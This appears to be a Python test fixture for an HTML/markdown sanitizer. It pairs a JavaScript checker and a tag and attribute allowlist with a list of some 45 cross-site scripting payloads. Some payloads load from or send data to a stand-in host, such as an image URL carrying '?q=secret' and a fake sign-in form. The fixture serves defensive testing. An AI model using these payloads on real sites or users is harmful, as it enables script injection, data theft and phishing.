"""Texts that would do harm if any of them were taken for markup, a link or a picture."""

ELSEWHERE = "https://elsewhere.example"

HOSTILE = [
    "<script>alert(1)</script>",
    f'<script src="{ELSEWHERE}/x.js"></script>',
    "<img src=x onerror=alert(1)>",
    f'<img src="{ELSEWHERE}/pixel.png">',
    f"![a picture]({ELSEWHERE}/pixel.png?q=secret)",
    f"![a picture][remote]\n\n[remote]: {ELSEWHERE}/pixel.png",
    "![a picture](data:text/html,<script>alert(1)</script>)",
    '![a picture](x" onerror="alert(1))',
    "[a link](javascript:alert(1))",
    "[a link](JaVaScRiPt&colon;alert(1))",
    "[a link](java\tscript:alert(1))",
    "[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a link](vbscript:msgbox(1))",
    "[a link][script]\n\n[script]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    f'[a link]({ELSEWHERE} "title\\" onmouseover=\\"alert(1)")',
    "<svg onload=alert(1)></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><mtext></table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    f'<iframe src="{ELSEWHERE}"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f'<object data="{ELSEWHERE}/x"></object><embed src="{ELSEWHERE}/x">',
    f'<video src="{ELSEWHERE}/x" onerror=alert(1) autoplay></video>',
    f"<style>@import '{ELSEWHERE}/x.css'; * {{ display: none }}</style>",
    f'<div style="background:url({ELSEWHERE}/x)">x</div>',
    f'<link rel="stylesheet" href="{ELSEWHERE}/x.css">',
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    f'<base href="{ELSEWHERE}/">',
    f'<form action="{ELSEWHERE}"><input name=p><button>Sign in</button></form>',
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "</div></article></main><script>alert(1)</script>",
    "</textarea></title></style></template><script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img/src/onerror=alert(1)>\nx\n```',
    f'```mermaid\ngraph TD; A-->B; click A "{ELSEWHERE}"\n```',
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <script>alert(1)</script> | d |",
    "{{ 7*7 }} {% csrf_token %} ${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "<x onclick=alert(1)>\u2028<!-- --><![CDATA[<script>alert(1)</script>]]>",
    "- <img src=x onerror=alert(1)>\n  > # <svg/onload=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<a name=getElementById></a><form id=data-log name=body><input name=attributes></form>",
]

# What an answer may be made of; anything else in it came from the text.
TAGS = (
    "a blockquote br code del div em figcaption figure h3 h4 h5 h6 hr li ol p pre span strong"
    " table tbody td th thead tr ul button svg use"
)

HARM = """(element) => {
    const allowed = new Set(TAGS.split(" "));
    const names = new Set(["align", "aria-hidden", "aria-label", "class", "data-coloured",
        "data-copy-code", "data-copy-label", "data-language", "href", "rel", "role", "start",
        "tabindex", "target", "type", "height", "width", "viewBox", "focusable"]);
    const harm = [];
    for (const node of element.querySelectorAll("*")) {
        const tag = node.localName;
        if (!allowed.has(tag)) harm.push(`<${tag}>`);
        const isOurs = node.closest("figcaption") !== null;
        if (["button", "svg", "use", "div"].includes(tag) && !isOurs && node.className !== "table")
            harm.push(`<${tag}> outside of a code block's head`);
        for (const { name, value } of node.attributes) {
            if (!names.has(name)) harm.push(`${tag} ${name}=${value}`);
            const isLink = tag === "a" && /^(https?:|mailto:)/.test(value);
            if (name === "href" && tag !== "use" && !isLink) harm.push(`${tag} href=${value}`);
        }
    }
    return harm;
}""".replace("TAGS", repr(TAGS))
